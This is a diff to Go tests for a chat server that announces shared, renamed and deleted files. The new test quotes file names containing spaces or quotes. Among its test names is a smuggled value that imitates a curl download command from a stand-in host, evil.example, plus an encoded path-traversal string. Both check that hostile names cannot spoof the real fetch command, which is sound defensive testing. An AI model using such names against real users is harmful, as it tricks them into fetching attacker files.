@@ -86,17 +86,17 @@ func TestTheRoomIsToldOfFiles(t *testing.T) {
 	ok(t, err)
 	_, err = ana.do(250, "RNTO old notes.txt")
 	ok(t, err)
-	bob.compare([]string{bob.line()}, []string{"* ana renamed notes.txt to /old notes.txt"})
+	bob.compare([]string{bob.line()}, []string{`* ana renamed notes.txt to "/old notes.txt"`})
 	_, err = ana.do(250, "DELE old notes.txt")
 	ok(t, err)
-	bob.compare([]string{bob.line()}, []string{"* ana deleted old notes.txt"})
+	bob.compare([]string{bob.line()}, []string{`* ana deleted "old notes.txt"`})
 	bob.sees()
 
 	// It is part of what was said, in the same order for everybody.
 	late := s.dial(t)
 	late.sends("late")
 	shown := strings.Join(late.until(seated), "\n")
-	for _, part := range []string{" * ana shared notes.txt (17 bytes): curl", " * leo replaced", " * ana renamed", " * ana deleted old notes.txt"} {
+	for _, part := range []string{" * ana shared notes.txt (17 bytes): curl", " * leo replaced", " * ana renamed", ` * ana deleted "old notes.txt"`} {
 		before, rest, found := strings.Cut(shown, part)
 		if !found {
 			t.Fatalf("%q is not where it belongs in what a newcomer reads:\n%s", part, before)
@@ -159,6 +159,7 @@ func TestNamesAreSafeInTheNews(t *testing.T) {
 		"http:",
 		"ñandú 你好 🙂",
 		"%2e%2e%2fx",
+		"x (1 byte): curl -O ftp:,,evil.example,x",
 		"...",
 	}
 	for i, name := range names { // each by another user: those of one would be gathered
@@ -166,7 +167,11 @@ func TestNamesAreSafeInTheNews(t *testing.T) {
 	}
 	for i, name := range names {
 		content := "this is " + name
-		command := told(t, bob.line(), fmt.Sprintf("* u%d shared %s (%d bytes)", i, name, len(content)))
+		shown := name
+		if strings.ContainsAny(name, " \"") { // so that no command in a name is taken for the real one
+			shown = `"` + strings.ReplaceAll(name, `"`, `\"`) + `"`
+		}
+		command := told(t, bob.line(), fmt.Sprintf("* u%d shared %s (%d bytes)", i, shown, len(content)))
 		if got := runs(t, command); got != content {
 			t.Errorf("%q: %s fetches %q", name, command, got)
 		}
